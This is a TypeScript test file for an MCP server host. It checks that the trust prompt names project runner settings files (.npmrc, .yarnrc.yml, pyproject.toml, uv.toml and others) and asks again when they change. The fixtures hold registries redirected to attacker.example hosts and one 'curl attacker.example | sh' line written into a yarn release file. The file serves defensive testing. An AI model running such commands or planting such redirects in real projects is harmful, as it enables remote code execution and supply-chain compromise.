// What a runner reads from the project before it decides what to run (its settings files, the module `python -m`
// imports) is in the trust question and in the plan's identity. Each test reads the question's text as the user sees it.
import * as assert from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { describeDefinition } from '../../src/core/presentation/describeDefinition';
import { describeLaunchPlan } from '../../src/core/presentation/describeLaunchPlan';
import { hashOf } from '../../src/core/config/definitionHash';
import { launchPlanHash, type StdioLaunchPlan } from '../../src/core/config/launchPlan';
import { buildStdioPlan, planLaunch } from '../../src/core/protocol/launch/launchPlanner.lazy';
import { fixtureServer, waitFor } from './helpers';
import type { InputDefinition } from '../../src/core/config/serverDefinition';
import { createKit, entry, serverState, stdio, waitForState, workspaceScope, type Kit } from './hostTestKit';

describe('the trust question names the project files a runner reads', function () {
  this.timeout(30_000);
  let kit: Kit;
  let dir: string;
  let asked: string[];
  let answers: (boolean | undefined)[];

  beforeEach(() => {
    dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-runner-')));
    asked = [];
    answers = [];
    kit = createKit({ trustPrompt: { askTrust: async (d, facts) => (asked.push(describeDefinition(d.raw, facts)), answers.shift()) } }, { trustAllServers: false });
  });
  afterEach(async () => {
    await kit?.manager.disposeAsync();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  /** A program named like the runner that starts the fixture server: what runs is ours, what is asked is the runner's. */
  const fakeRunner = (name: string) => {
    fs.mkdirSync(path.join(dir, 'tools'), { recursive: true });
    const file = path.join(dir, 'tools', name);
    fs.writeFileSync(file, `#!/bin/sh\nexec ${JSON.stringify(process.execPath)} ${JSON.stringify(fixtureServer('basic-server.mjs'))}\n`, { mode: 0o755 });
    return file;
  };

  it('a workspace .npmrc with registry= is shown and asked about again when added later', async function () {
    if (process.platform === 'win32') this.skip();
    answers.push(true, false);
    await kit.update(workspaceScope(dir), [entry('s', stdio(fakeRunner('npx'), ['-y', '@modelcontextprotocol/server-everything']))], []);
    await waitForState(kit, 's', 'running');
    assert.strictEqual(asked.length, 1);
    assert.ok(!asked[0].includes('.npmrc'), asked[0]);
    // A later `git pull` brings a .npmrc that sends npx to another registry.
    fs.writeFileSync(path.join(dir, '.npmrc'), '# mirror\nregistry=https://registry.attacker.example/\n//registry.attacker.example/:_authToken=npm_secret_123\n');
    await kit.manager.get(serverState(kit, 's')!.id)!.restart();
    assert.strictEqual(asked.length, 2, 'asked again: npx would fetch from another registry');
    assert.ok(asked[1].includes(`⚠ npx reads its settings from ${path.join(dir, '.npmrc')}: registry=https://registry.attacker.example/ · //registry.attacker.example/:_authToken=••••••`), asked[1]);
    assert.ok(!asked[1].includes('npm_secret_123'), 'a token in the file is masked');
    assert.strictEqual(serverState(kit, 's')?.state.kind, 'blocked');
  });

  it("the shebang: npx's #!/usr/bin/env node finds the workspace's tools/node through its PATH change; the question names it, and it appearing later asks again", async function () {
    if (process.platform === 'win32') this.skip();
    fs.mkdirSync(path.join(dir, 'runner'));
    const npx = path.join(dir, 'runner', 'npx');
    fs.writeFileSync(npx, `#!/usr/bin/env node\nimport(${JSON.stringify(fixtureServer('basic-server.mjs'))});\n`, { mode: 0o755 });
    const server = stdio(npx, ['-y', '@modelcontextprotocol/server-everything'], { PATH: `tools${path.delimiter}${path.dirname(process.execPath)}` });
    answers.push(true, false);
    await kit.update(workspaceScope(dir), [entry('s', server)], []);
    await waitForState(kit, 's', 'running');
    assert.strictEqual(asked.length, 1);
    assert.ok(asked[0].includes(`\nIts first line "#!/usr/bin/env node" starts it with: `), asked[0]);
    // The workspace gains a tools/node: the named file is the same, the program that runs is not.
    fs.mkdirSync(path.join(dir, 'tools'));
    fs.writeFileSync(path.join(dir, 'tools', 'node'), `#!/bin/sh\nexec ${JSON.stringify(process.execPath)} "$@"\n`, { mode: 0o755 });
    await kit.manager.get(serverState(kit, 's')!.id)!.restart();
    assert.strictEqual(asked.length, 2, 'asked again: another program runs the script');
    assert.ok(asked[1].includes(`⚠ Its first line "#!/usr/bin/env node" starts it with ${path.join(dir, 'tools', 'node')}, found through its own PATH and working directory, not the one yours finds`), asked[1]);
    assert.strictEqual(serverState(kit, 's')?.state.kind, 'blocked');
  });

  it("a password input's default hid --registry=<attacker> behind dots: the question shows the file's default in clear, a typed password stays masked", async () => {
    const inputs: InputDefinition[] = [{ type: 'promptString', id: 'flag', description: 'Token', password: true, default: '--registry=https://registry.attacker.example/' }];
    kit.inputAnswers.set('flag', '--registry=https://registry.attacker.example/');
    await kit.update(workspaceScope(dir), [entry('s', stdio('npx', ['-y', '${input:flag}', '@acme/server']))], inputs);
    await waitForState(kit, 's', 'blocked');
    assert.ok(asked[0].startsWith('Command: npx -y --registry=https://registry.attacker.example/ @acme/server\n'), asked[0]);
    kit.inputAnswers.set('flag', 'my-own-secret');
    await kit.update(workspaceScope(dir, 'file:///other'), [entry('s', stdio('npx', ['-y', '${input:flag}', '@acme/server']))], inputs);
    await waitFor(() => asked.length === 2, 'the second question');
    assert.ok(asked[1].startsWith('Command: npx -y •••••• @acme/server\n'), asked[1]);
  });

  it("a user-level server without cwd ran in the editor's working directory (a cloned repository's node_modules copy of the package): it runs in the home folder, whose local copies the question names", () => {
    fs.mkdirSync(path.join(dir, 'node_modules', '@acme', 'server'), { recursive: true });
    const plan = buildStdioPlan({ scope: { folderPath: undefined }, resolved: stdio('npx', ['-y', '@acme/server']) as never, shown: stdio('npx', ['-y', '@acme/server']) as never, hostEnv: { PATH: '/usr/bin:/bin', HOME: dir }, isExecutable: () => true });
    const question = describeLaunchPlan(plan);
    assert.ok(question.includes(`\nWorking directory: ${dir}\n`), question);
    assert.ok(question.includes(`⚠ Runs or configures from a local copy, not the registry's: ${path.join(dir, 'node_modules', '@acme', 'server')}`), question);
    assert.strictEqual(plan.cwd, dir, 'the launcher runs it there');
  });

  it("a .yarnrc.yml above the working directory whose yarnPath runs the repository's file: shown, and a change to that file asks again", () => {
    const sub = path.join(dir, 'packages', 'srv');
    fs.mkdirSync(path.join(dir, '.yarn', 'releases'), { recursive: true });
    fs.mkdirSync(sub, { recursive: true });
    fs.writeFileSync(path.join(dir, '.yarnrc.yml'), 'yarnPath: .yarn/releases/yarn-4.cjs\nnpmRegistryServer: "https://npm.attacker.example"\n');
    fs.writeFileSync(path.join(dir, '.yarn', 'releases', 'yarn-4.cjs'), 'console.log("yarn")\n');
    const first = stdioPlan('yarn', ['dlx', 'mcp-tool'], sub);
    const question = describeLaunchPlan(first);
    assert.ok(question.includes(`⚠ yarn reads its settings from ${path.join(dir, '.yarnrc.yml')}: yarnPath: .yarn/releases/yarn-4.cjs · npmRegistryServer: "https://npm.attacker.example"`), question);
    assert.ok(question.includes(`⚠ yarn runs the file ${path.join(dir, '.yarn', 'releases', 'yarn-4.cjs')} that these settings name`), question);
    fs.writeFileSync(path.join(dir, '.yarn', 'releases', 'yarn-4.cjs'), 'require("child_process").exec("curl attacker.example | sh")\n');
    assert.notStrictEqual(hash(stdioPlan('yarn', ['dlx', 'mcp-tool'], sub)), hash(first), 'the file yarnPath runs changed: another plan');
  });

  it('a pyproject.toml with [tool.uv] naming another index is shown for uvx; one without [tool.uv] is not listed', () => {
    fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "x"\n\n[tool.uv]\nindex-url = "https://pypi.attacker.example/simple"\n\n[tool.ruff]\nline-length = 100\n');
    const question = describeLaunchPlan(stdioPlan('uvx', ['mcp-server-fetch'], dir));
    assert.ok(question.includes(`⚠ uvx reads its settings from ${path.join(dir, 'pyproject.toml')}: [tool.uv] · index-url = "https://pypi.attacker.example/simple"`), question);
    assert.ok(!question.includes('line-length'), question);
    fs.writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "x"\n');
    assert.ok(!describeLaunchPlan(stdioPlan('uvx', ['mcp-server-fetch'], dir)).includes('pyproject.toml'));
    fs.writeFileSync(path.join(dir, 'uv.toml'), '[[index]]\nurl = "https://user:hunter2@pypi.attacker.example/simple"\ndefault = true\n');
    const withUvToml = describeLaunchPlan(stdioPlan('uvx', ['mcp-server-fetch'], dir));
    assert.ok(withUvToml.includes(`⚠ uvx reads its settings from ${path.join(dir, 'uv.toml')}: [[index]] · url = "https://user:••••••@pypi.attacker.example/simple" · default = true`), withUvToml);
  });

  it('a bunfig.toml and a pnpm-workspace.yaml are shown for bunx and pnpm', () => {
    fs.writeFileSync(path.join(dir, 'bunfig.toml'), '[install]\nregistry = "https://bun.attacker.example"\n');
    fs.writeFileSync(path.join(dir, 'pnpm-workspace.yaml'), 'registry: https://pnpm.attacker.example\n');
    assert.ok(describeLaunchPlan(stdioPlan('bunx', ['tool'], dir)).includes(`⚠ bunx reads its settings from ${path.join(dir, 'bunfig.toml')}: [install] · registry = "https://bun.attacker.example"`));
    assert.ok(describeLaunchPlan(stdioPlan('pnpm', ['dlx', 'tool'], dir)).includes(`⚠ pnpm reads its settings from ${path.join(dir, 'pnpm-workspace.yaml')}: registry: https://pnpm.attacker.example`));
  });

  it('a .npmrc that is a link out of the repository says where it leads; a huge one is refused as a problem', function () {
    if (process.platform === 'win32') this.skip();
    const outside = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'mcphost-outside-')));
    try {
      fs.writeFileSync(path.join(outside, 'rc'), 'registry=https://elsewhere.example/\n');
      fs.symlinkSync(path.join(outside, 'rc'), path.join(dir, '.npmrc'));
      assert.ok(describeLaunchPlan(stdioPlan('npx', ['tool'], dir)).includes(`⚠ npx reads its settings from ${path.join(dir, '.npmrc')} (a link to ${path.join(outside, 'rc')}): registry=https://elsewhere.example/`));
      fs.writeFileSync(path.join(outside, 'rc'), `registry=https://x.example/\n${'a=1\n'.repeat(20_000)}`);
      const result = planLaunch({ scope: { folderPath: dir }, raw: stdio('npx', ['tool']), resolved: stdio('npx', ['tool']), shown: stdio('npx', ['tool']), hostEnv: { PATH: '/usr/bin:/bin' } }) as { ok: boolean; message?: string };
      assert.strictEqual(result.ok, false);
      assert.match(result.message ?? '', /The npx settings file .*\.npmrc is over 64 KB: too large to be shown in the question/);
    } finally {
      fs.rmSync(outside, { recursive: true, force: true });
    }
  });

  it("python -m server runs the repository's server.py: the question names it, and one added later asks again", () => {
    const before = stdioPlan('python3', ['-u', '-m', 'server', '--port', '1'], dir);
    assert.ok(!describeLaunchPlan(before).includes('imports the working directory'));
    fs.writeFileSync(path.join(dir, 'server.py'), 'import os\n');
    const after = stdioPlan('python3', ['-u', '-m', 'server', '--port', '1'], dir);
    assert.ok(describeLaunchPlan(after).includes(`⚠ python3 -m server imports the working directory's copy, not an installed one: ${path.join(dir, 'server.py')}`), describeLaunchPlan(after));
    assert.notStrictEqual(hash(after), hash(before));
    // A package folder, through `uv run`; isolated mode (-I) leaves the working directory off sys.path.
    fs.mkdirSync(path.join(dir, 'mcp_git'));
    assert.ok(describeLaunchPlan(stdioPlan('uv', ['run', '--with', 'x', 'python', '-m', 'mcp_git.server'], dir)).includes(`⚠ uv run -m mcp_git imports the working directory's copy, not an installed one: ${path.join(dir, 'mcp_git')}`));
    assert.ok(!describeLaunchPlan(stdioPlan('python3', ['-I', '-m', 'server'], dir)).includes('imports the working directory'));
  });

  it("a plan with no runner files keeps the identity it had before they were planned (users' trust stands)", () => {
    const plan = stdioPlan('npx', ['-y', 'tool'], dir);
    assert.strictEqual(plan.runnerFiles, undefined);
    // The identity as it was computed before runner files were planned.
    const older = { v: 2, scope: 'file:///ws', name: 's', kind: 'stdio', command: plan.command, executable: plan.executable ?? null, args: plan.argsShown, cwd: plan.cwd ?? null, changes: [], envFile: null, localCopies: plan.localCopies };
    assert.strictEqual(hash(plan), hashOf(older));
  });

  it("a masked credential's file is trusted by its real contents; a file with nothing masked keeps the identity of its lines", () => {
    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://registry.npmjs.org/\n');
    const plain = stdioPlan('npx', ['-y', 'tool'], dir);
    assert.strictEqual(plain.runnerFiles?.[0].sha256, undefined, 'nothing masked: the shown lines are the identity, as before');
    fs.writeFileSync(path.join(dir, '.npmrc'), '//registry.npmjs.org/:_authToken=one\n');
    const first = stdioPlan('npx', ['-y', 'tool'], dir);
    fs.writeFileSync(path.join(dir, '.npmrc'), '//registry.npmjs.org/:_authToken=two\n');
    const second = stdioPlan('npx', ['-y', 'tool'], dir);
    assert.deepStrictEqual(second.runnerFiles?.[0].settings, first.runnerFiles?.[0].settings, 'the same masked lines');
    assert.notStrictEqual(hash(second), hash(first), 'a masked value changed: another plan');
  });

  it("python -m: the working directory's other modules are listed with their contents; a variable the host has itself names no file", () => {
    fs.writeFileSync(path.join(dir, 'json.py'), 'x = 1\n');
    const first = stdioPlan('env', ['-S', 'python3 -m http.server'], dir);
    assert.ok(describeLaunchPlan(first).includes(`⚠ python3 imports from its working directory ${dir} first, before installed modules: json.py`), describeLaunchPlan(first));
    fs.writeFileSync(path.join(dir, 'json.py'), 'x = 2\n');
    assert.notStrictEqual(hash(stdioPlan('env', ['-S', 'python3 -m http.server'], dir)), hash(first), "a module's contents changed: another plan");
    // A .corepack.env sets corepack's variables (its registry, unsafe URLs) for yarn and pnpm.
    fs.writeFileSync(path.join(dir, '.corepack.env'), 'COREPACK_NPM_REGISTRY=https://registry.attacker.example\n');
    assert.ok(describeLaunchPlan(stdioPlan('yarn', ['dlx', 'tool'], dir)).includes(`⚠ yarn reads its settings from ${path.join(dir, '.corepack.env')}: COREPACK_NPM_REGISTRY=https://registry.attacker.example`));
    // The user's own NPM_CONFIG_USERCONFIG (in the host's environment too) is theirs: not listed.
    fs.writeFileSync(path.join(dir, 'userrc'), 'registry=https://registry.npmjs.org/\n');
    const own = buildStdioPlan({ scope: { folderPath: dir }, resolved: { ...stdio('npx', ['-y', 'tool']), cwd: path.join(dir, 'tools') } as never, shown: { ...stdio('npx', ['-y', 'tool']), cwd: path.join(dir, 'tools') } as never, hostEnv: { PATH: '/usr/bin:/bin', HOME: '/nonexistent-home', NPM_CONFIG_USERCONFIG: path.join(dir, 'userrc') }, isExecutable: () => true });
    assert.ok(!(own.runnerFiles ?? []).some((f) => f.path.endsWith('userrc')), JSON.stringify(own.runnerFiles));
  });

  const stdioPlan = (command: string, args: string[], cwd: string): StdioLaunchPlan =>
    buildStdioPlan({ scope: { folderPath: dir }, resolved: { ...stdio(command, args), cwd } as never, shown: { ...stdio(command, args), cwd } as never, hostEnv: { PATH: '/usr/bin:/bin', HOME: '/nonexistent-home' }, isExecutable: () => true });
  const hash = (plan: StdioLaunchPlan) => launchPlanHash('file:///ws', 's', plan);
});
